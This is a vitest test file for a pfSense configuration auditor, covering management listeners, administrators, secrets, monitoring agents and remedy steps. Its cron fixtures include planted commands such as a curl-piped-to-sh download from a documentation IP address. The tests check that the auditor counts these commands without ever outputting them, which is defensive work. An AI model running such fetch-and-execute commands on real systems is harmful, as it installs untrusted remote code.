import { Buffer } from 'node:buffer';
import { describe, expect, it } from 'vitest';
import { remedySteps } from '../../../src/platforms/pfsense/remedy.js';
import { reader } from '../shared/reader.js';
import { config, deviceOf, parse } from './build.js';

describe('the web interface and SSH', () => {
  const listeners = (webgui: string, system = '') =>
    deviceOf(config({ webgui, system }))
      .listeners.filter(({ service }) => service !== 'ping')
      .map(({ service, services, approximate }) => [
        service,
        ...services.toTexts(),
        ...(approximate.length > 0 ? ['?'] : []),
      ]);

  it.each([
    [
      '<webgui><protocol>https</protocol></webgui>',
      [
        ['https-management', 'tcp/443'],
        ['http-redirect', 'tcp/80'],
      ],
    ],
    [
      '<webgui><protocol>https</protocol><port></port></webgui>',
      [
        ['https-management', 'tcp/443'],
        ['http-redirect', 'tcp/80'],
      ],
    ],
    [
      '<webgui><protocol>https</protocol><port>8443</port></webgui>',
      [
        ['https-management', 'tcp/8443'],
        ['http-redirect', 'tcp/80'],
      ],
    ],
    ['<webgui><protocol>https</protocol><disablehttpredirect/></webgui>', [['https-management', 'tcp/443']]],
    ['<webgui><protocol>http</protocol></webgui>', [['http-management', 'tcp/80']]],
    ['<webgui><protocol>http</protocol><port>8080</port></webgui>', [['http-management', 'tcp/8080']]],
    [
      '<webgui></webgui>',
      [
        ['https-management', 'tcp/443', '?'],
        ['http-management', 'tcp/80', '?'],
      ],
    ],
    [
      '',
      [
        ['https-management', 'tcp/443', '?'],
        ['http-management', 'tcp/80', '?'],
      ],
    ],
  ])('%s listens on %j', (webgui, found) => {
    expect(listeners(webgui)).toEqual(found);
  });

  it.each([
    ['<ssh><enable>enabled</enable></ssh>', [['ssh-management', 'tcp/22']]],
    ['<ssh><enable/><port>2222</port></ssh>', [['ssh-management', 'tcp/2222']]],
    ['<enablesshd>yes</enablesshd>', [['ssh-management', 'tcp/22']]],
    ['<ssh><port>2222</port></ssh>', []],
    ['<ssh><enabled/></ssh>', [['ssh-management', 'tcp/22', '?']]],
  ])('%s listens on %j', (system, found) => {
    const webgui = '<webgui><protocol>https</protocol><disablehttpredirect/></webgui>';
    expect(listeners(webgui, system).slice(1)).toEqual(found);
  });
});

describe('SNMP', () => {
  const snmp = (fields: string) =>
    deviceOf(config({ more: `<snmpd><rocommunity>public</rocommunity>${fields}</snmpd>` })).listeners.find(
      ({ service }) => service === 'snmp',
    );

  it('is off in silence, and on every address unless it is bound', () => {
    expect(snmp('')).toBeUndefined();
    expect(snmp('<enable/>')).toMatchObject({ interfaces: null, addresses: null });
    expect(snmp('<enable/><bindip>all</bindip>')).toMatchObject({ interfaces: null, addresses: null });
    expect(snmp('<enable/><bindip>lan</bindip>')?.interfaces).toEqual(['LAN']);
    expect(snmp('<enable/><bindip>192.168.1.1</bindip>')?.addresses?.toCidrs()).toEqual(['192.168.1.1/32']);
    expect(snmp('<enable/><bindip>_vip5</bindip>')?.approximate).toHaveLength(1);
    expect(snmp('<enable/><pollport>1161</pollport>')?.services.toTexts()).toEqual(['udp/1161']);
  });
});

it('a captive portal with guests who need no login is understood', () => {
  const more = `<captiveportal><guests><enable/><interface>lan</interface><zoneid>4</zoneid>
    <passthrumac><action>pass</action><mac>00:00:5e:00:53:01</mac></passthrumac>
    <allowedip><ip>192.0.2.7</ip><sn>32</sn><dir>to</dir></allowedip>
    <allowedhostname><hostname>www.example.org</hostname></allowedhostname>
    <element><name>logo.png</name><size>12</size></element></guests></captiveportal>`;
  expect(parse(config({ more })).diagnostics).toEqual([]);
});

it('the captive portal lets its own pages be reached', () => {
  const more =
    '<captiveportal><guests><enable/><interface>lan</interface><zoneid>4</zoneid></guests><off><interface>wan</interface></off></captiveportal>';
  const device = deviceOf(config({ more }));
  const portal = device.listeners.filter(({ service }) => service === 'user-login');
  expect(portal.map(({ services, interfaces }) => [services.toTexts(), interfaces])).toEqual([
    [['tcp/8004-8005'], ['LAN']],
  ]);
  const rules = device.policies.flatMap((policy) => policy.rules.map((rule) => [policy.name, rule.purpose]));
  expect(rules).toContainEqual(['LAN', 'captive-portal']);
  expect(rules).not.toContainEqual(['WAN', 'captive-portal']);
});

describe('administrators', () => {
  const system = `
    <group><name>admins</name><gid>1999</gid><scope>system</scope><member>0</member><member>2001</member><priv>page-all</priv></group>
    <group><name>helpdesk</name><member>2002</member><priv>page-diagnostics-ping</priv><priv>page-status-logs</priv></group>
    <group><name>vpn</name><member>2003</member><priv>user-ipsec-xauth-dialin</priv></group>
    <user><name>admin</name><uid>0</uid><scope>system</scope></user>
    <user><name>jd</name><uid>2001</uid><disabled/><priv>user-shell-access</priv></user>
    <user><name>help</name><uid>2002</uid></user>
    <user><name>road</name><uid>2003</uid></user>`;

  it('include whoever may synchronise a pair, with full rights: that runs commands and replaces the configuration', () => {
    const user = '<user><name>sync</name><uid>2001</uid><priv>system-xmlrpc-ha-sync</priv></user>';
    const found = deviceOf(config({ system: user })).administrators;
    expect(found).toMatchObject([
      { name: 'sync', privilege: 'system-xmlrpc-ha-sync', marks: ['full-rights'] },
    ]);
  });

  it('are those with privileges of their own or of a group', () => {
    const found = deviceOf(config({ system })).administrators;
    expect(
      found.map(({ name, kind, privilege, enabled, origin }) => [name, kind, privilege, enabled, origin]),
    ).toEqual([
      ['admin', 'user', 'page-all', true, 'automatic'],
      ['jd', 'user', 'user-shell-access, page-all', false, 'user'],
      ['help', 'user', 'page-diagnostics-ping, page-status-logs', true, 'user'],
      ['admins', 'group', 'page-all', true, 'automatic'],
      ['helpdesk', 'group', 'page-diagnostics-ping, page-status-logs', true, 'user'],
    ]);
  });
});

describe('facts', () => {
  const settings = (parts: Parameters<typeof config>[0]) =>
    new Map(deviceOf(config(parts)).settings.map(({ name, value }) => [name, value]));

  it('tell what runs by itself, and never the commands', () => {
    const more = `<cron>
      <item><command>/usr/bin/nice -n20 adjkerntz -a</command></item>
      <item><command>/etc/rc.periodic daily</command></item>
      <item><command>/usr/bin/nice -n20 /usr/local/sbin/expiretable -v -t 3600 virusprot</command></item>
      <item><command>/usr/bin/nice -n20 /etc/rc.update_bogons.sh; fetch http://203.0.113.9/PLANTED</command></item>
      <item><command>curl -s http://203.0.113.9/PLANTED | sh</command></item></cron>
      <installedpackages><shellcmdsettings><config><cmd>sh /root/PLANTED</cmd></config></shellcmdsettings></installedpackages>`;
    const found = settings({ more, system: '<shellcmd>PLANTED</shellcmd>' });
    expect([found.get('scheduled-commands'), found.get('shell-commands')]).toEqual([2, 2]);
    expect(JSON.stringify(deviceOf(config({ more })))).not.toContain('PLANTED');
  });

  it('tell where logs go, who is asked for passwords, and what is switched off', () => {
    const found = settings({
      system:
        '<authserver><name>AD</name><ldap_bindpw>x</ldap_bindpw></authserver><ssh><enable/><sshdkeyonly/></ssh>',
      webgui: '<webgui><protocol>https</protocol><noantilockout/><authmode>AD</authmode></webgui>',
      more: '<syslog><enable/><remoteserver>203.0.113.5</remoteserver><filter></filter></syslog>',
    });
    expect(Object.fromEntries(found)).toMatchObject({
      'log-server': '203.0.113.5',
      'authentication-server': 'AD',
      'web-authentication': 'AD',
      'anti-lockout': false,
      'ssh-key-only': true,
      'packet-filter-disabled': false,
      'ipv6-allowed': true,
    });
    expect(
      settings({ more: '<syslog><remoteserver>203.0.113.5</remoteserver></syslog>' }).has('log-server'),
    ).toBe(false);
  });

  it.each([
    ['203.0.113.5:5514', '203.0.113.5'],
    ['[2001:db8::5]:514', '2001:db8::5'],
    ['2001:db8::5', '2001:db8::5'],
    ['logs.example.org:514', 'logs.example.org'],
  ])('name a log server without its port: %s', (server, expected) => {
    const more = `<syslog><enable/><remoteserver2>${server}</remoteserver2></syslog>`;
    expect(settings({ more }).get('log-server')).toBe(expected);
  });

  it.each([
    ['ldap', 'TCP - Standard', true],
    ['ldap', 'Standard TCP', true],
    ['ldap', 'SSL/TLS Encrypted', undefined],
    ['ldap', 'TCP - STARTTLS', undefined],
    ['radius', 'Standard TCP', undefined],
  ])('tell of a directory that is asked in clear text: %s by %s', (type, transport, expected) => {
    const system = `<authserver><type>${type}</type><name>AD</name><ldap_urltype>${transport}</ldap_urltype></authserver>`;
    expect(settings({ system }).get('ldap-without-encryption')).toBe(expected);
  });

  it('name packages that matter, and those that add rules', () => {
    const more = `<installedpackages><package><name>haproxy</name></package><package><name>System Patches</name></package>
      <package><name>Odd</name><filter_rule_function>odd</filter_rule_function></package></installedpackages>`;
    const found = deviceOf(config({ more })).settings.filter(({ name }) => name.includes('package'));
    expect(found.map(({ name, value }) => [name, value])).toEqual([
      ['notable-package', 'haproxy'],
      ['package-adds-rules', 'Odd'],
    ]);
  });

  it('name managers', () => {
    const device = deviceOf(
      config({
        system: '<acb><enable>yes</enable></acb>',
        more: '<hasync><synchronizetoip>192.168.1.3</synchronizetoip></hasync>',
      }),
    );
    expect(device.managers.map(({ kind, address }) => [kind, address])).toEqual([
      ['auto-config-backup', null],
      ['ha-sync', '192.168.1.3'],
    ]);
  });

  it.each([
    ['203.0.113.9:10051,[2001:db8::9]:10051;zabbix.example.net', 'EnableRemoteCommands=1', 3],
    ['192.168.1.9,127.0.0.1,localhost', 'EnableRemoteCommands=1', 0],
    ['203.0.113.9', 'Timeout=3', 0],
  ])(
    'name servers outside that an agent of Zabbix asks what to run: %s with %s',
    (server, options, count) => {
      const agent = `<zabbixagent6><config><agentenabled>on</agentenabled><serveractive>${server}</serveractive>
      <userparams>${Buffer.from(options).toString('base64')}</userparams></config></zabbixagent6>`;
      const more = `<installedpackages>${agent}</installedpackages>`;
      expect(deviceOf(config({ more })).managers.map(({ kind }) => kind)).toEqual(
        Array(count).fill('zabbix'),
      );
    },
  );

  it.each([
    ['<netboot/><nextserver>boot.example.net</nextserver>', ['boot.example.net']],
    ['<nextserver>203.0.113.9</nextserver>', []],
    ['<tftp>203.0.113.9</tftp>', ['203.0.113.9']],
    ['<numberoptions><item><value>203.0.113.9</value></item></numberoptions>', ['203.0.113.9']],
    ['<numberoptions><item><value>aGVsbG8=</value></item></numberoptions>', []],
    ['<staticmap><tftp>203.0.113.9</tftp></staticmap>', ['203.0.113.9']],
  ])('name whom hosts are sent to by DHCP: %s', (leased, expected) => {
    const { settings } = deviceOf(config({ more: `<dhcpd><lan><enable/>${leased}</lan></dhcpd>` }));
    const found = settings.filter(({ name }) => name === 'dhcp-option');
    expect(found.map(({ value }) => value)).toEqual(expected);
  });
});

describe('secrets', () => {
  it('are found wherever they stand, and never kept', () => {
    const fields = [
      ['bcrypt-hash', 'hashed'],
      ['sha512-hash', 'hashed'],
      ['pre-shared-key', 'clear'],
      ['prv', 'clear'],
      ['rocommunity', 'clear'],
      ['auth_pass', 'reversible'],
      ['password', 'unknown'],
      ['api_key', 'unknown'],
      ['dns_cf_token', 'unknown'],
      ['accountkey', 'unknown'],
      ['statspasswd', 'unknown'],
    ] as const;
    const inner = fields.map(([name]) => `<${name}>PLANTED</${name}>`).join('');
    const text = config({
      more: `<installedpackages><odd><config>${inner}<passwordless></passwordless></config></odd></installedpackages>`,
    });
    const device = deviceOf(text);
    expect(device.secrets.map(({ protection }) => protection)).toEqual(
      fields.map(([, protection]) => protection),
    );
    expect(JSON.stringify(device)).not.toContain('PLANTED');
  });

  it('know a hash by its dollars', () => {
    const system = '<user><name>admin</name><password>$1$abc$def</password></user>';
    expect(deviceOf(config({ system })).secrets).toMatchObject([{ kind: 'password', protection: 'hashed' }]);
  });

  it('are not what only looks like them', () => {
    const more =
      '<openvpn><openvpn-server><passtos></passtos><tls_type>auth</tls_type><save_passwd>yes</save_passwd></openvpn-server></openvpn>';
    expect(deviceOf(config({ more })).secrets).toEqual([]);
  });
});

describe('remedies', () => {
  it.each([
    [
      { kind: 'delete-access-rule', policy: 'WAN', rule: 3, name: 'WAN 3' },
      'Firewall > Rules > WAN: delete rule 3',
    ],
    [
      { kind: 'delete-access-rule', policy: 'WAN', rule: 2, name: 'Floating 2' },
      'Firewall > Rules > Floating: delete rule 2',
    ],
    [
      { kind: 'restrict-source', policy: 'WAN', rule: 1, name: 'Up links 1' },
      'Firewall > Rules > Up links: edit rule 1',
    ],
    [
      { kind: 'disable-management', policy: 'WAN', rule: 2, interface: 'LAN', service: 'ssh-management' },
      'Firewall > NAT > Port Forward: edit rule 2',
    ],
    [
      { kind: 'disable-management', policy: 'LAN', rule: 0, interface: 'LAN', service: 'https-management' },
      'Disable webConfigurator anti-lockout rule',
    ],
    [
      { kind: 'disable-management', policy: 'WAN', rule: 0, interface: 'WAN', service: 'ike' },
      'Auto-added VPN rules',
    ],
    [
      { kind: 'disable-management', policy: 'LAN', rule: 0, interface: 'LAN', service: 'user-login' },
      'Captive Portal',
    ],
  ] as const)('%j: %s', (change, step) => {
    expect(remedySteps(change, reader()).join('\n')).toContain(step);
    expect(remedySteps(change, reader('fr')).join('\n')).not.toMatch(/ (the|and|make|take) /);
  });
});

describe('a group stands for the group of that name in a directory', () => {
  const marksOf = (authmode: string, group: string) => {
    const system = `<authserver><type>ldap</type><name>AD</name><host>192.168.1.9</host></authserver>
      <group><name>netadmins</name>${group}</group>`;
    const webgui = `<webgui><protocol>https</protocol><authmode>${authmode}</authmode></webgui>`;
    const [found] = deviceOf(config({ system, webgui })).administrators;
    return found?.marks?.includes('wildcard');
  };

  it.each([
    ['AD', '<scope>remote</scope><priv>page-all</priv>', true],
    ['AD', '<scope>local</scope><priv>user-shell-access</priv>', true],
    ['AD', '<scope>remote</scope><priv>page-system-usermanager-addprivs</priv>', true],
    ['AD', '<scope>remote</scope><priv>page-status-dashboard</priv>', false],
    ['AD', '<scope>system</scope><priv>page-all</priv>', false],
    ['Local Database', '<scope>remote</scope><priv>page-all</priv>', false],
    ['Gone', '<scope>remote</scope><priv>page-all</priv>', false],
  ])('where %s is asked and it has %s: %s', (authmode, group, expected) => {
    expect(marksOf(authmode, group)).toBe(expected);
  });
});

describe('packages that administer', () => {
  const base64 = (text: string) => Buffer.from(text).toString('base64');
  const offered = (packages: string) =>
    deviceOf(config({ more: `<installedpackages>${packages}</installedpackages>` }))
      .listeners.filter(({ name }) => /NET-SNMP|Zabbix|NRPE/.test(name))
      .map((each) => [
        each.service,
        ...each.services.toTexts(),
        each.addresses?.toCidrs() ?? null,
        each.sources?.literal?.toCidrs() ?? null,
        each.approximate.length,
      ]);
  const zabbix = (parameters: string, more = '<server>192.0.2.9</server>') =>
    offered(
      `<zabbixagentlts><config><agentenabled>on</agentenabled>${more}<userparams>${base64(parameters)}</userparams></config></zabbixagentlts>`,
    );

  it('are agents of Zabbix that run what they are sent', () => {
    const found = [['remote-commands', 'tcp/10050', null, ['192.0.2.9/32'], 0]];
    expect(zabbix('EnableRemoteCommands=1')).toEqual(found);
    expect(zabbix('UserParameter=a,b\r\nAllowKey=system.run[*]\r\n')).toEqual(found);
    expect(zabbix('AllowKey=*')).toEqual(found);
    expect(zabbix('# EnableRemoteCommands=1\nEnableRemoteCommands=0\nAllowKey=vfs.file.*')).toEqual([]);
    expect(zabbix('DenyKey=system.run[*]')).toEqual([]);
    expect(zabbix('EnableRemoteCommands=1', '<server>zabbix.example.org</server>')).toEqual([
      ['remote-commands', 'tcp/10050', null, null, 1],
    ]);
    const bound = '<server>192.0.2.9</server><listenip>192.168.1.1</listenip><listenport>10051</listenport>';
    expect(zabbix('EnableRemoteCommands=1', bound)).toEqual([
      ['remote-commands', 'tcp/10051', ['192.168.1.1/32'], ['192.0.2.9/32'], 0],
    ]);
  });

  it('are NRPE where it takes words of whoever asks', () => {
    const nrpe = (more: string) => offered(`<nrpe><config><enabled>on</enabled>${more}</config></nrpe>`);
    expect(nrpe('<dont_blame_nrpe>on</dont_blame_nrpe><allowed_hosts>192.0.2.9</allowed_hosts>')).toEqual([
      ['remote-commands', 'tcp/5666', null, ['192.0.2.9/32'], 0],
    ]);
    expect(nrpe('<allowed_hosts>192.0.2.9</allowed_hosts>')).toEqual([]);
  });

  it('are NET-SNMP, where its rows say', () => {
    const snmp = (rows: string) =>
      offered(`<netsnmp><config><enable_snmpd>on</enable_snmpd>${rows}</config></netsnmp>`);
    expect(snmp('')).toEqual([['snmp', 'udp/161', null, null, 0]]);
    const row =
      '<row><transport>tlstcp</transport><ipaddress>192.168.1.1</ipaddress><snmpport>10161</snmpport></row>';
    expect(snmp(row)).toEqual([['snmp', 'tcp/10161', ['192.168.1.1/32'], null, 0]]);
    expect(snmp('<row><ipaddress>fw.example.org</ipaddress></row>')).toEqual([
      ['snmp', 'udp/161', null, null, 1],
    ]);
    expect(offered('<netsnmp><config><enable_snmpd/></config></netsnmp>')).toEqual([]);
  });

  it('are named with the communities that they answer to, and the programs that they run', () => {
    const device = deviceOf(
      config({
        more: `<installedpackages><netsnmp><config><enable_snmpd>on</enable_snmpd></config></netsnmp>
        <netsnmpcommunities><config><community>public</community><rorwcommunity>rwcommunity</rorwcommunity></config></netsnmpcommunities>
        <netsnmphostinfo><config><row><ext_prog>/root/PLANTED.sh</ext_prog></row><row><ext_prog/></row></config></netsnmphostinfo>
        </installedpackages>`,
      }),
    );
    const found = device.settings.map(({ name, value }) => [name, value]);
    expect(JSON.stringify(device)).not.toContain('PLANTED');
    expect(Object.fromEntries(found)).toMatchObject({
      snmp: true,
      'snmp-default-community': true,
      'snmp-write': true,
      'shell-commands': 1,
    });
  });
});
